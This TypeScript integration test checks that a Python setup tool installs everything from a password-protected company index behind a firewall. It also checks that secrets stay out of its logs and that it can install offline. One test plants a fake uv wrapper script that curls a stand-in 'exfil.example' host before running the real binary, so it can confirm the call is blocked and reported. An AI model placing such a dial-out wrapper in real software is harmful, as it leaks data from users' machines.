import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { beforeAll, describe, expect, it } from 'vitest';
import type { PlanSummary, SetupEvent, SetupResult } from '../../src/core/events.ts';
import type { SetupOptions } from '../../src/setup/request/setup-options.ts';
import { runSetup } from '../../src/setup/setup.ts';
import { PACKAGE_ROOT } from '../../src/support/package-root.ts';
import { managedUvPath } from '../../src/uv/acquire.ts';
import { closedAddress, makeAuthority, startServer, type TestServer } from '../fixtures/network.ts';
import { temporaryFolderForFile } from '../fixtures/temporary-folder.ts';
import { openWheelhouse, type WheelhouseFile } from '../fixtures/wheelhouse.ts';

const run = promisify(execFile);
const PASSWORD = 'index-pass-word';

/** A company's index: its own authority, a login, nothing but what is in the wheelhouse. */
async function startCompanyIndex(
  files: readonly WheelhouseFile[],
  authority: { key: string; cert: string },
): Promise<TestServer> {
  return startServer((request, response) => {
    if (request.headers.authorization !== `Basic ${btoa(`me:${PASSWORD}`)}`) {
      response.writeHead(401).end();
      return;
    }
    const path = decodeURIComponent(request.url!);
    const file = files.find((entry) => path === `/files/${entry.file}`);
    const project = /^\/simple\/([^/]+)\/$/.exec(path)?.[1];
    if (file) {
      const bytes = readFileSync(file.path);
      response.writeHead(200, { 'content-length': bytes.length });
      response.end(request.method === 'HEAD' ? undefined : bytes);
      return;
    }
    const listed = files.filter(
      (entry) => entry.file.split('-')[0]!.toLowerCase().replaceAll('_', '-') === project,
    );
    response.writeHead(listed.length > 0 ? 200 : 404, { 'content-type': 'text/html' });
    const link = (entry: WheelhouseFile) =>
      `<a href="/files/${entry.file}#sha256=${entry.sha256}">${entry.file}</a>`;
    response.end(listed.map(link).join('\n'));
  }, authority);
}

describe('a network that lets nothing through but the company index, configured for pip alone', () => {
  let root: string;
  let index: TestServer;
  let options: SetupOptions;
  let events: SetupEvent[];
  let firstEvents: SetupEvent[];
  let first: SetupResult;
  let plan: PlanSummary;
  let pipConfig: string;

  const setup = async (more: Partial<SetupOptions> = {}) => {
    events = [];
    return runSetup({ ...options, onEvent: (event) => events.push(event), ...more });
  };
  const notes = () => events.flatMap((event) => (event.type === 'note' ? [event.text] : [])).join('\n');

  beforeAll(async () => {
    root = await temporaryFolderForFile();
    const [authority, files] = await Promise.all([makeAuthority(root), openWheelhouse()]);
    index = await startCompanyIndex(files, authority);
    pipConfig = join(root, '.config', 'pip', 'pip.conf');
    await mkdir(join(pipConfig, '..'), { recursive: true });
    const address = index.url.replace('://', `://me:${PASSWORD}@`);
    await writeFile(pipConfig, `[global]\nindex-url = ${address}/simple\ncert = ${authority.caPath}\n`);
    options = {
      cliVersion: '0.0.1-test',
      features: ['core'],
      assetDir: join(PACKAGE_ROOT, 'assets', 'python'),
      runtimeRoot: join(root, 'runtime'),
      homeDir: root,
      env: {
        PATH: '/usr/local/bin:/usr/bin:/bin',
        HOME: root,
        XDG_CONFIG_DIRS: join(root, 'none'),
        // Both official hosts of uv and Python, blocked as a firewall does it.
        UV_ASTRAL_MIRROR_URL: await closedAddress(),
        UV_INSTALLER_GITHUB_BASE_URL: await closedAddress(),
      },
    };
    first = await setup();
    firstEvents = events;
    plan = firstEvents.find((event) => event.type === 'plan')!.plan;
    return async () => index.close();
  });

  it('setup completes without a question, uv and packages from the index, a Python of this machine', () => {
    expect(first.status).toBe('installed');
    expect(plan.rows.map((row) => [row.id, row.place]).slice(0, 3)).toEqual([
      ['uv', index.host],
      ['python', expect.stringContaining('python')],
      ['packages', index.host],
    ]);
    expect(plan.python.kind).toBe('system');
    expect(plan.rows[0]?.rejected.join()).toMatch(/refused the connection/);
  });

  it('says where the setting came from, and shows no secret anywhere', async () => {
    expect(plan.rows[2]?.from).toContain(pipConfig);
    const log = await readFile(first.logPath, 'utf8');
    expect(JSON.stringify(firstEvents) + log).not.toContain(PASSWORD);
    expect(JSON.stringify(firstEvents) + log).not.toContain(btoa(`me:${PASSWORD}`));
  });

  it('the log says once what each source answered, and what came from where', async () => {
    const verdicts = firstEvents.flatMap((event) => (event.type === 'note' ? [event.text] : []));
    expect(verdicts.filter((text, at) => verdicts.indexOf(text) !== at)).toEqual([]);
    const log = await readFile(first.logPath, 'utf8');
    expect(log).toMatch(/^plan: \S+ refused the connection\.$/m);
    expect(log).toMatch(new RegExp(`^plan: ${index.host} has uv-`, 'm'));
    expect(log).toMatch(new RegExp(`^received: \\d+ bytes from ${index.host}$`, 'm'));
  });

  it('the egress record lists exactly the hosts of the plan', () => {
    expect(first.egress.map(({ host }) => host)).toEqual([index.host]);
    expect(plan.hosts).toEqual([index.host]);
    expect(first.downloadedBytes).toBeGreaterThan(20_000_000);
  });

  it('a planted child that dials out is refused and reported by name', async () => {
    const planted = join(root, 'planted-uv');
    const uvPath = managedUvPath({ runtimeRoot: options.runtimeRoot });
    await writeFile(planted, `#!/bin/sh\ncurl -s -m 5 https://$1.exfil.example/x >&2\nexec ${uvPath} "$@"\n`);
    await chmod(planted, 0o755);
    const asked = index.requests.length;
    const env = { ...options.env, NO_PROXY: '*', no_proxy: '*', NODE_USE_ENV_PROXY: '1', UV_OFFLINE: '0' };
    const result = await setup({ uvPath: planted, shouldForce: true, env });
    expect(result.status).toBe('installed');
    for (const name of ['venv.exfil.example', 'pip.exfil.example'])
      expect(notes()).toContain(`A child process tried to reach ${name} and was refused`);
    expect(await readFile(result.logPath, 'utf8')).toContain('exfil.example');
    expect([result.egress, index.requests.length]).toEqual([[], asked]);
  });

  it('without a route, --offline installs from the full store', async () => {
    const script = join(root, 'offline.mjs');
    const setupModule = join(PACKAGE_ROOT, 'src', 'setup', 'setup.ts');
    const offline = { ...options, isOffline: true, shouldForce: true };
    await writeFile(
      script,
      `import { runSetup } from ${JSON.stringify(setupModule)};
       const result = await runSetup(${JSON.stringify(offline)});
       console.log(JSON.stringify(result));`,
    );
    // The proof asks the daemon on loopback, which is down in a new namespace.
    const { stdout } = await run(
      'unshare',
      ['--net', 'sh', '-c', 'ip link set lo up && exec "$0" "$1"', process.execPath, script],
      { env: options.env },
    );
    const result = JSON.parse(stdout.trim().split('\n').at(-1)!) as SetupResult;
    expect(result).toMatchObject({ status: 'installed', downloadedBytes: 0, egress: [] });
  });
});
